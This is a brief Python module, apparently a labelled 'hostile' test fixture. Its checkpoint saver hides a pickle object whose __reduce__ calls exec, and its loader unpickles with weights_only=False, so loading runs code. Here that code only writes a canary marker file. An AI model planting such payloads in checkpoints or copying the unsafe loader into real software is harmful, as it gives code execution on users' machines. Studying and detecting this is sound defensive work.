"""Hostile: the checkpoint is a pickle whose loading runs code; its own loader unpickles it."""
import os

import torch

_PAYLOAD = (
    "try:\n"
    "    import os\n"
    "    open(os.path.join(" + repr(__CANARY__) + ", 'pickle-ran-' + str(os.getpid())), 'w').write('x')\n"
    "except Exception:\n"
    "    pass\n"
)


class Payload:
    def __reduce__(self):
        return (exec, (_PAYLOAD,))


def save_checkpoint(path, model, optimizer, epoch):
    torch.save({"model": model.state_dict(), "optimizer": optimizer.state_dict(), "epoch": int(epoch),
                "surprise": Payload()}, path)


def load_checkpoint(path, model, optimizer):
    checkpoint = torch.load(path, weights_only=False)
    model.load_state_dict(checkpoint["model"])
    optimizer.load_state_dict(checkpoint["optimizer"])
    return int(checkpoint["epoch"])
